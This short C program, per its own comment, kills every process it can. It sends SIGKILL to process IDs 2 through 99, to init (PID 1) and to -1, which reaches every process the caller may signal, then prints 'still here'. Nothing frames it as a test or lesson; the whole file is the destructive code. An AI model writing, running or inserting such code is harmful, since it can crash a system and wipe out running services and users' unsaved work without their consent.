/* Kills every process it may, init and its group among them. */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
    for (pid_t p = 2; p < 100; p++)
        if (p != getpid())
            kill(p, SIGKILL);
    kill(1, SIGKILL);
    kill(-1, SIGKILL);
    printf("still here\n");
    return 0;
}
